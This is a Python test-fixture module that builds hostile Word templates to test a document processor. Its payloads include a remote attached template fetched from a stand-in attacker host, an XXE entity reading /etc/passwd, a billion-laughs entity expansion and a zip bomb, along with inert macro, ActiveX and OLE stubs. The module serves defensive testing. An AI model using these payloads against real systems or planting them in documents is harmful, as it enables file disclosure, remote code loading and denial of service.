"""Hostile .docx templates built in the tests: zip bombs, macros, XXE, remote templates.

Each is a real template (python-docx's default) with parts added or replaced at the zip
level, as an attacker (or an unlucky Word add-in) would leave them.
"""

from __future__ import annotations

import zipfile
from io import BytesIO

from docx import Document

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
VBA_CT = "application/vnd.ms-office.vbaProject"
ACTIVEX_CT = "application/vnd.ms-office.activeX+xml"
OLE_CT = "application/vnd.openxmlformats-officedocument.oleObject"
ATTACHED_TEMPLATE = f"{R_NS}/attachedTemplate"
REMOTE_TEMPLATE = "https://attacker.example/evil.dotm"


def plain(text: str = "Contoso letterhead") -> bytes:
    doc = Document()
    doc.add_paragraph(text)
    out = BytesIO()
    doc.save(out)
    return out.getvalue()


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(content)) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def rezip(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return out.getvalue()


def with_parts(extra: dict[str, bytes], *, base: bytes | None = None,
               replace: dict[str, bytes] | None = None) -> bytes:
    parts = parts_of(base or plain())
    parts.update(replace or {})
    parts.update(extra)
    return rezip(parts)


def _add_override(content_types: bytes, part: str, content_type: str) -> bytes:
    return content_types.replace(
        b"</Types>",
        f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode())


def _add_rel(rels: bytes, rel_id: str, rel_type: str, target: str, external=False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return rels.replace(b"</Relationships>", (
        f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>'
        "</Relationships>").encode())


def loaded() -> bytes:
    """A template carrying macros, an ActiveX control, an embedded OLE object and a
    remote attached template, each wired in the way Word wires them."""
    parts = parts_of(plain())
    types = parts["[Content_Types].xml"]
    doc_rels = parts["word/_rels/document.xml.rels"]
    for part, ct in (("word/vbaProject.bin", VBA_CT), ("word/activeX/activeX1.xml", ACTIVEX_CT),
                     ("word/embeddings/oleObject1.bin", OLE_CT)):
        types = _add_override(types, part, ct)
    types = types.replace(b"<Default Extension=\"xml\"", (
        b'<Default Extension="bin" ContentType="application/octet-stream"/>'
        b'<Default Extension="xml"'))
    doc_rels = _add_rel(doc_rels, "rIdVba",
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "vbaProject.bin")
    doc_rels = _add_rel(doc_rels, "rIdAx", f"{R_NS}/control", "activeX/activeX1.xml")
    doc_rels = _add_rel(doc_rels, "rIdOle", f"{R_NS}/oleObject", "embeddings/oleObject1.bin")
    doc_rels = _add_rel(doc_rels, "rIdLink", f"{R_NS}/hyperlink", "https://contoso.example/",
                        external=True)
    document = parts["word/document.xml"].replace(b"</w:body>", (
        b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        b'Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p>'
        b'<w:p><w:r><w:control r:id="rIdAx" w:name="Button1"/></w:r></w:p>'
        b"</w:body>"))
    settings = parts["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rIdTpl"/><w:zoom', 1)
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{RELS_NS}"></Relationships>').encode()
    settings_rels = _add_rel(settings_rels, "rIdTpl", ATTACHED_TEMPLATE, REMOTE_TEMPLATE,
                             external=True)
    parts.update({
        "[Content_Types].xml": types,
        "word/_rels/document.xml.rels": doc_rels,
        "word/document.xml": document,
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": settings_rels,
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros",
        "word/activeX/activeX1.xml": (
            b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/'
            b'2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'),
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 package",
    })
    return rezip(parts)


def xxe() -> bytes:
    """document.xml reads a local file through an external entity."""
    document = parts_of(plain())["word/document.xml"]
    head, _, body = document.partition(b"?>")
    evil = head + b'?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + body
    evil = evil.replace(b"Contoso letterhead", b"&xxe;")
    return with_parts({}, replace={"word/document.xml": evil})


def billion_laughs() -> bytes:
    """styles.xml whose one entity grows to 10^9 characters if expanded."""
    styles = parts_of(plain())["word/styles.xml"]
    head, _, body = styles.partition(b"?>")
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10))
    evil = head + f"?><!DOCTYPE w:styles [{entities}]>".encode() + body
    evil = evil.replace(b'w:styleId="Normal"', b'w:styleId="&lol9;"', 1)
    return with_parts({}, replace={"word/styles.xml": evil})


def bomb(part_bytes: int, *, name: str = "word/media/image1.png") -> bytes:
    """A template with a part of `part_bytes` zeros, streamed into the zip a megabyte at a
    time, so building it never holds the part in memory."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for part, data in parts_of(plain()).items():
            zf.writestr(part, data)
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        chunk = bytes(1 << 20)
        with zf.open(info, "w", force_zip64=True) as stream:
            for _ in range(part_bytes // len(chunk)):
                stream.write(chunk)
    return out.getvalue()
